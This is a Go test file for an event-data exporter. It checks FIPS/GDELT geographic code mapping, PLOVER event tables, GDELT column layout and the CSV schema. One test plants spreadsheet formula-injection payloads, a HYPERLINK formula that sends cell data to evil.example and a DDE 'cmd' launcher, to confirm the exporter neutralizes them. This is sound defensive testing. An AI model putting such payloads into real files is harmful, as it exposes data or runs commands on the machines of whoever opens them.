package export

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/annals-events/annals"
)

// TestFIPSCoversTheGazetteer: every country annals can place an event in
// has a FIPS 10-4 code, and the codes that differ from ISO are GDELT's.
func TestFIPSCoversTheGazetteer(t *testing.T) {
	for iso, want := range map[string]string{"PAK": "PK", "IRN": "IR", "AFG": "AF", "ISR": "IS", "UKR": "UP", "RUS": "RS",
		"DEU": "GM", "GBR": "UK", "CHN": "CH", "SRB": "RI", "MNE": "MJ", "UNK": "KV", "XKX": "KV", "SSD": "OD", "ALA": "FI", "USA": "US"} {
		if got := FIPS(iso); got != want {
			t.Errorf("FIPS(%s) = %q, want %q", iso, got, want)
		}
	}
	f, err := os.Open("../geo/gazetteer.tsv.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(zr)
	n := 0
	for _, line := range strings.Split(string(b), "\n") {
		c := strings.Split(line, "\t")
		if len(c) > 2 && c[0] == "C" {
			n++
			// FIPS 10-4 has no one code for the BES islands or the US
			// Minor Outlying Islands (it has one per island)
			if FIPS(c[2]) == "" && c[2] != "BES" && c[2] != "UMI" {
				t.Errorf("gazetteer country %s (%s) has no FIPS code", c[2], c[1])
			}
		}
	}
	if n < 200 {
		t.Errorf("only %d gazetteer countries", n)
	}
}

// TestGDELTADM1: divisions in either of annals' schemes become GDELT's
// FIPS ADM1 codes, including where the scheme's own code is not FIPS
// (ISO 3166-2 always; GeoNames in CH, FR, GR and a few more) or an ISO
// code has changed meaning; Gaza is FIPS's country GZ.
func TestGDELTADM1(t *testing.T) {
	for _, c := range []struct{ country, adm1, fips, want string }{
		{"PAK", "PK.02", "PK", "PK02"}, // Balochistan, GeoNames (FIPS-based)
		{"PAK", "PK-BA", "PK", "PK02"}, // Balochistan, ISO 3166-2
		{"IRN", "IR-11", "IR", "IR04"}, // Sistan and Baluchestan: IR-11 was Zanjan (IR36) before ISO renumbered Iran
		{"IRN", "IR.04", "IR", "IR04"},
		{"UKR", "UA-63", "UP", "UP07"},  // Kharkiv
		{"AFG", "AF-PKA", "AF", "AF29"}, // Paktika
		{"CHN", "CN-BJ", "CH", "CH22"},  // Beijing: CN-11 in older ISO 3166-2
		{"CHE", "CH.ZH", "SZ", "SZ25"},  // GeoNames writes Swiss cantons by ISO code
		{"FRA", "FR.11", "FR", "FRA8"},  // Île-de-France: GeoNames' 11 is INSEE's
		{"PSE", "PS.GZ", "GZ", "GZ"},    // Khan Younis: Gaza, a FIPS country of its own
		{"PSE", "PS-RFH", "GZ", "GZ"},   // Rafah governorate
		{"PSE", "PS.WE", "WE", "WE"},
		{"PSE", "", "WE", "WE"},
		{"USA", "US-CA", "US", "USCA"}, // GDELT writes US states by postal code
		{"USA", "US.CA", "US", "USCA"},
		{"GBR", "GB.ENG", "UK", "UK"}, // England: no FIPS division
		{"MDG", "MG.11", "MA", "MA"},  // GeoNames' new Malagasy regions are not FIPS
		{"IRN", "", "IR", "IR"},
		{"ZZZ", "ZZ.01", "", ""},
	} {
		l := &annals.Location{Country: c.country, ADM1: c.adm1}
		if fips, adm1 := GDELTGeo(l); fips != c.fips || adm1 != c.want {
			t.Errorf("GDELTGeo(%s, %s) = %q, %q; want %q, %q", c.country, c.adm1, fips, adm1, c.fips, c.want)
		}
	}
}

// TestADM1CoversTheGazetteer: the divisions and places annals can locate
// an event in have a GDELT ADM1 code: every division and place of the
// countries the demo follows, and most of the rest.
func TestADM1CoversTheGazetteer(t *testing.T) {
	f, err := os.Open("../geo/gazetteer.tsv.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(zr)
	must := map[string]bool{"PAK": true, "AFG": true, "IRN": true, "ISR": true, "PSE": true, "UKR": true, "RUS": true, "SYR": true, "IRQ": true, "LBN": true}
	n, known := map[string]int{}, map[string]int{}
	for _, line := range strings.Split(string(b), "\n") {
		c := strings.Split(line, "\t")
		if len(c) < 4 || (c[0] != "A" && c[0] != "P") || c[3] == "" {
			continue
		}
		n[c[0]]++
		code, ok := adm1Of[c[3]]
		if ok {
			known[c[0]]++
			// FIPS country and division; or the West Bank or Gaza, FIPS
			// countries of their own
			if !(len(code) == 4 && code[:2] == FIPS(c[2]) || code == "WE" || code == "GZ") {
				t.Errorf("%s %s (%s): ADM1 %q, country %s", c[3], c[1], c[2], code, FIPS(c[2]))
			}
		} else if must[c[2]] {
			t.Errorf("%s %s (%s) has no ADM1 code", c[3], strings.Split(c[1], "|")[0], c[2])
		}
	}
	for kind, min := range map[string]float64{"A": 0.9, "P": 0.94} {
		if share := float64(known[kind]) / float64(n[kind]); share < min {
			t.Errorf("%s rows: %d of %d (%.3f) have an ADM1 code, want %.2f", kind, known[kind], n[kind], share, min)
		}
	}
	t.Logf("divisions %d of %d, places %d of %d with an ADM1 code", known["A"], n["A"], known["P"], n["P"])
}

func TestPloverTable(t *testing.T) {
	for code, want := range map[string]PloverEntry{
		"041":  {Event: "CONSULT", Mode: "phone"},
		"0871": {Event: "RETREAT", Mode: "ceasefire", Context: []string{"military"}},
		"1124": {Event: "ACCUSE", Mode: "allege", Context: []string{"military", "legal"}},
		"08":   {Event: "CONCEDE"},
	} {
		got, ok := Plover(code)
		if !ok || got.Event != want.Event || got.Mode != want.Mode || strings.Join(got.Context, ",") != strings.Join(want.Context, ",") {
			t.Errorf("Plover(%s) = %+v, %v; want %+v", code, got, ok, want)
		}
	}
	if _, ok := Plover("010"); ok {
		t.Error("PLOVER codes no statements, yet 010 has a row")
	}
	// every row's event type has a quad class
	for code, e := range ploverOf {
		if PloverQuad(e.Event) == 0 {
			t.Errorf("%s: PLOVER type %q has no quad class", code, e.Event)
		}
	}
}

func TestGDELTRow(t *testing.T) {
	added := time.Date(2024, 2, 3, 4, 5, 6, 0, time.UTC)
	e := annals.StoredEvent{ID: 7, Event: annals.Event{Source: "PAKMIL", Target: "IRN", Code: "190", Root: "19", QuadClass: 4, EventDate: "2024-01-18",
		Location: &annals.Location{Name: "Saravan", Country: "IRN", ADM1: "IR.04", Precision: "city"}},
		Evidence: []annals.Evidence{{DocID: "d1", URL: "https://example.org/a"}}}
	var buf bytes.Buffer
	w, _ := New("gdelt", &buf, Options{Extra: map[int64]Extra{7: {Root: true, Added: added}}})
	if err := w.Write(e); err != nil {
		t.Fatal(err)
	}
	w.Close()
	r := csv.NewReader(&buf)
	r.Comma = '\t'
	row, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range map[int]string{25: "1", 26: "190", 28: "19", 51: "4", 53: "IR", 54: "IR04", 59: "20240203040506", 60: "https://example.org/a", 7: "PAK", 12: "MIL"} {
		if row[i] != want {
			t.Errorf("column %d = %q, want %q", i+1, row[i], want)
		}
	}
}

func TestSchemaMatchesHeader(t *testing.T) {
	if len(csvFields) != len(CSVHeader) {
		t.Fatalf("%d schema fields, %d columns", len(csvFields), len(CSVHeader))
	}
	for i, f := range csvFields {
		if f.name != CSVHeader[i] {
			t.Errorf("field %d: %s != %s", i, f.name, CSVHeader[i])
		}
	}
}

// TestCSVFormulaInjection: text cells that a spreadsheet would run as a
// formula are written as text; numbers, negative ones too, stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	e := annals.StoredEvent{ID: 7}
	e.Source, e.Target, e.Code, e.Goldstein, e.EventDate = "IRN", "PAK", "190", -10, "2024-01-16"
	e.SourceText = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	e.TargetText = "+cmd|' /C calc'!A0"
	e.Rule = "@SUM(1+1)"
	e.Evidence = []annals.Evidence{{URL: "-2+3+cmd|' /C calc'!A0", Sentence: "=1+1"}}
	for _, format := range []string{"csv", "gdelt"} {
		var b bytes.Buffer
		w, err := New(format, &b, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
		w.Close()
		r := csv.NewReader(&b)
		if format == "gdelt" {
			r.Comma = '\t'
		}
		r.FieldsPerRecord = -1
		r.LazyQuotes = true
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		sawNegative := false
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+@", rune(c[0])) || strings.HasPrefix(c, "-2+3") {
					t.Errorf("%s: cell %q would run as a formula", format, c)
				}
				if c == "-10.0" || c == "-10" {
					sawNegative = true
				}
			}
		}
		if !sawNegative {
			t.Errorf("%s: the Goldstein score -10 is no longer a plain number: %v", format, recs)
		}
	}
}

// TestDateSourceColumn: the CSV and Parquet rows carry how the date was
// found beside its precision.
func TestDateSourceColumn(t *testing.T) {
	e := annals.StoredEvent{ID: 7, Event: annals.Event{EventDate: "2024-01-18", DatePrecision: "day", DateSource: "relative", Code: "190", Root: "19"}}
	rec := CSVRecord(e)
	col := -1
	for i, h := range CSVHeader {
		if h == "date_source" {
			col = i
		}
	}
	if col < 0 || rec[col] != "relative" || rec[col-1] != "day" {
		t.Errorf("date_source column %d in %v", col, rec)
	}
	if p := ParquetRowOf(e); p.DateSource == nil || *p.DateSource != "relative" {
		t.Errorf("parquet date_source %v", p.DateSource)
	}
}
